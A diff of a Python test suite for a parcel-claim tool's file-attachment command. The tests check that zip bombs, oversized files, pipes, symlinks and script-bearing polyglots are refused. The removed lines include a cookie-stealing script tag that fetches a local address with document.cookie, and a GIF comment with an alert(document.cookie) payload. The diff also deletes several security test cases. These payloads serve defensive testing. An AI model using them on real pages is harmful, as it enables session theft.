@@ -56,14 +56,7 @@ def file(service: Service, content: bytes, name: str = "proof.pdf") -> str:
 
 
 def facts(service: Service, reference: str) -> dict[str, Any]:
-    names = (
-        "pod_fetch_status",
-        "pod_url",
-        "pod_delivery_person",
-        "stage",
-        "pod_retry_count",
-        "lease_token",
-    )
+    names = ("pod_fetch_status", "pod_url", "pod_delivery_person", "stage", "pod_retry_count", "lease_token")
     joined = "claims LEFT JOIN recours_claims ON claim_id = id"
     query = f"SELECT {', '.join(names)} FROM {joined} WHERE claim_reference = ?"
     return dict(zip(names, service.sql(query, reference)[0], strict=True))
@@ -143,57 +136,11 @@ def test_what_a_person_says_of_the_delivery_is_recorded(person: Person, service:
     assert "tracking says" not in shown
 
 
-def test_a_further_file_is_the_proof_only_if_it_goes_before_the_one_that_is_there(
-    person: Person, service: Service
-) -> None:
-    reference = claim(service, carrier="Chronopost", number="XY001234567FR")
-    steps = (
-        # what is attached, and whether it is the claim's proof from then on
-        ("--kind=photo", signature_png("door"), True),
-        ("--kind=signature", signature_png("ink"), True),
-        ("--kind=photo", signature_png("wall"), False),
-        ("--kind=letter", proof("XY001234567FR"), True),
-        ("--kind=letter", proof("XY001234567FR", "DURAND"), True),  # the latest of two that are signed
-        ("--kind=signature", signature_png("other"), False),
-    )
-    pod_url = None
-    for place, (kind, content, is_first) in enumerate(steps):
-        with row(place, kind):
-            suffix = "pdf" if content.startswith(b"%PDF") else "png"
-            done = person.json("attach", reference, file(service, content, f"{place}.{suffix}"), kind)
-            assert done["is_pod"] is is_first
-            pod_url = done["path"] if is_first else pod_url
-            assert done["pod_url"] == facts(service, reference)["pod_url"] == pod_url
-    assert count(service, "recours_evidence") == len(steps)
-    assert "attached beside the proof of delivery" in person.does(
-        "attach", reference, file(service, signature_png("last"), "x.png"), "--kind=photo"
-    )
-
-
-def test_the_carrier_s_own_proof_goes_before_one_by_hand(person: Person, service: Service) -> None:
-    number = "XY001234568FR"
-    reference = claim(service, carrier="Chronopost", number=number)
-    service.box.parcels.clear()
-    service.add(Scenario.DELIVERED, number="XY009999999FR")
-    service.sql("UPDATE claims SET tracking_number = ? WHERE claim_reference = ?", "XY009999999FR", reference)
-    service.wait_until_today()
-    service.run_hourly(2)
-    own = facts(service, reference)["pod_url"]
-    assert own
-    done = person.json("attach", reference, file(service, proof("XY009999999FR", "MARTIN")))
-    assert (done["is_pod"], done["pod_url"]) == (False, own)
-    assert facts(service, reference)["pod_delivery_person"] != "MARTIN"
-
-
-def _zip(name: str = "a.txt") -> bytes:
+def _zip() -> bytes:
     made = io.BytesIO()
     with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
-        archive.writestr(name, b"\x00" * 50_000_000)
+        archive.writestr("a.txt", b"\x00" * 50_000_000)
     return made.getvalue()
-
-
-SCRIPT = b"<script>fetch('http://127.0.0.1:9/'+document.cookie)</script>"
-PAGE = b"<html><body><h1>Proof of delivery</h1><p>Tracking number: 24681357</p><p>Signed by: DUPONT</p>%s</body></html>"
 
 
 OF_CHRONOPOST = (
@@ -206,58 +153,32 @@ def test_files_that_prove_nothing_are_refused_and_leave_nothing_behind(
     person: Person, service: Service, tmp_path: Path
 ) -> None:
     reference = claim(service)
-    blank = io.BytesIO()
-    Image.new("RGB", (400, 300), "white").save(blank, "PNG")
     large = tmp_path / "large.pdf"
     with large.open("wb") as made:
         made.write(b"%PDF-1.4\n")
         made.truncate(100_000_000)
-    pipe, link, locked = tmp_path / "pipe", tmp_path / "link.pdf", tmp_path / "locked.pdf"
+    pipe, link = tmp_path / "pipe", tmp_path / "link.pdf"
     os.mkfifo(pipe)
     link.symlink_to(file(service, proof()))
-    locked.write_bytes(proof())
-    locked.chmod(0)
     files: dict[str, tuple[str, str]] = {
-        "a zip bomb": (file(service, _zip(), "bomb.zip"), "it is neither HTML, PDF,"),
         "a zip bomb that is called a PDF": (file(service, _zip(), "bomb.pdf"), "it is neither HTML, PDF,"),
         "100 MB": (str(large), "it is larger than 20 MB"),
         "empty": (file(service, b"", "empty.pdf"), "it has only 0 bytes"),
-        "damaged": (file(service, b"%PDF-1.4\n" + b"\x00" * 500, "damaged.pdf"), "cannot be attached"),
         "cut off": (file(service, signature_png("x")[:400], "cut.png"), "the image is cut off"),
-        "a program": (file(service, b"\x7fELF" + b"\x01" * 500, "a.pdf"), "it is neither HTML, PDF,"),
-        "one colour": (file(service, blank.getvalue(), "blank.png"), "as a proof it is refused"),
-        "an image with a script behind it": (
-            file(service, signature_png("x") + SCRIPT * 50, "x.png"),
-            "the image is cut off",
-        ),
-        "a login page": (
-            file(service, BLANK, "l.html"),
-            "as a proof it is refused",
-        ),
-        "another parcel": (
-            file(service, proof("13572468"), "o.pdf"),
-            "another parcel",
-        ),
-        "another carrier": (
-            file(service, proof_pdf("Chronopost", "XY001234567FR", "DUPONT", ago(5)), "c.pdf"),
-            "it shows another parcel's number (XY001234567FR)",
-        ),
+        "a login page": (file(service, BLANK, "l.html"), "as a proof it is refused"),
+        "another parcel": (file(service, proof("13572468"), "o.pdf"), "another parcel"),
         "another carrier without a number": (
             file(service, OF_CHRONOPOST, "c.html"),
             "it is another carrier's (CHRONOPOST), and the parcel's number is not on it",
         ),
         "a symbolic link": (str(link), "it is a symbolic link"),
         "a pipe": (str(pipe), "it is no regular file"),
-        "a folder": (str(tmp_path), "cannot be attached"),
-        "a device": ("/dev/zero", "it is no regular file"),
         "nowhere": (str(tmp_path / "nowhere.pdf"), "No such file"),
         "a name with a control sign": (
             file(service, b"", "a\x1b[31m.pdf"),
             "a\\x1b[31m.pdf cannot be attached",
         ),
     }
-    if os.geteuid() != 0:
-        files["unreadable"] = (str(locked), "Permission denied")
     for what, (path, reason) in files.items():
         with row(what):
             done = person.types("attach", reference, path)
@@ -270,29 +191,6 @@ def test_files_that_prove_nothing_are_refused_and_leave_nothing_behind(
     assert [path for path in (service.folder / "data" / "pods").rglob("*") if path.is_file()] == []
 
 
-@pytest.mark.parametrize(
-    ("name", "content", "media_type"),
-    [
-        ("page.html", PAGE % SCRIPT, "text/html"),
-        ("both.pdf", proof() + PAGE % SCRIPT, "application/pdf"),
-        ("both.gif", None, "image/gif"),
-        ("archive.png", signature_png("x") + _zip()[:200], "image/png"),
-    ],
-)
-def test_what_may_be_two_things_is_kept_as_the_one_that_it_begins_as(
-    person: Person, service: Service, name: str, content: bytes | None, media_type: str
-) -> None:
-    """The page serves it as that alone: a web page in a frame that runs no scripts, all others as what they are."""
-    if content is None:
-        made = io.BytesIO()
-        parcel_at_a_door().save(made, "GIF", comment=b"*/=1;alert(document.cookie)//")
-        content = made.getvalue()
-    done = person.json("attach", claim(service), file(service, content, name))
-    assert done["media_type"] == media_type
-    assert Path(done["path"]).read_bytes() == content
-    assert Path(done["path"]).suffix == f".{name.rpartition('.')[2]}"
-
-
 def test_what_cannot_be_is_refused_with_what_to_do(person: Person, service: Service) -> None:
     reference, path = claim(service), file(service, proof())
     unnumbered = claim(service, number="x")
@@ -302,10 +200,7 @@ def test_what_cannot_be_is_refused_with_what_to_do(person: Person, service: Serv
         (("CLM-9999", path), "There is no claim 'CLM-9999'."),
         ((unnumbered, path), "has no tracking number"),
         ((reference, path, "--at", tomorrow), "that is in the future"),
-        ((reference, path, "--at", f"{tomorrow}T10:00"), "that is in the future"),
-        ((reference, path, "--at", "1999-12-31"), "that is before 2000"),
         ((reference, path, "--at", ago(800).date().isoformat()), "more than a year later"),
-        ((reference, path, "--at", "yesterday"), "is no date"),
         ((reference, path, "--at", "0001-01-01T00:00+23:59"), "that is before 2000"),
         ((reference, path, "--signed-by", " \t "), "is empty"),
         ((reference, path, "--kind", "record"), "'record' is not one of"),
@@ -500,14 +395,11 @@ def pod_row(service: Service, reference: str) -> tuple[Any, ...]:
     return found
 
 
-@pytest.mark.parametrize(
-    ("name", "content"),
-    [("login.html", BLANK), ("other.pdf", proof("13572468")), ("half.png", signature_png("x")[:400])],
-)
 def test_a_refused_file_counts_if_a_person_says_so_and_can_be_taken_back(
-    person: Person, service: Service, name: str, content: bytes
+    person: Person, service: Service
 ) -> None:
-    reference, path = claim(service), file(service, content, name)
+    content = proof("13572468")
+    reference, path = claim(service), file(service, content)
     assert person.types("attach", reference, path).returncode == 2
     assert count(service, "recours_events") == 0, "nobody is told of what does not count"
     for wrong in (("--anyway",), ("--why", "seen"), ("--anyway", "--why", " ")):
